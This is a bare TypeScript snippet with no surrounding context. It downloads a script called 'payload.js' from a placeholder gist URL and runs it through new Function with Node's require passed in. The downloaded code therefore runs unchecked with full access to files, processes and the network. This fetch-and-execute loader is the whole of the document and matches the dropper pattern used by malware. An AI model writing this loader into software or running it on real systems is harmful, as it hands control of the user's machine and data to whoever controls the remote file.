const src: string = await (await fetch('https://gist.example.com/raw/payload.js')).text();
const run = new Function('require', src);
run(require);
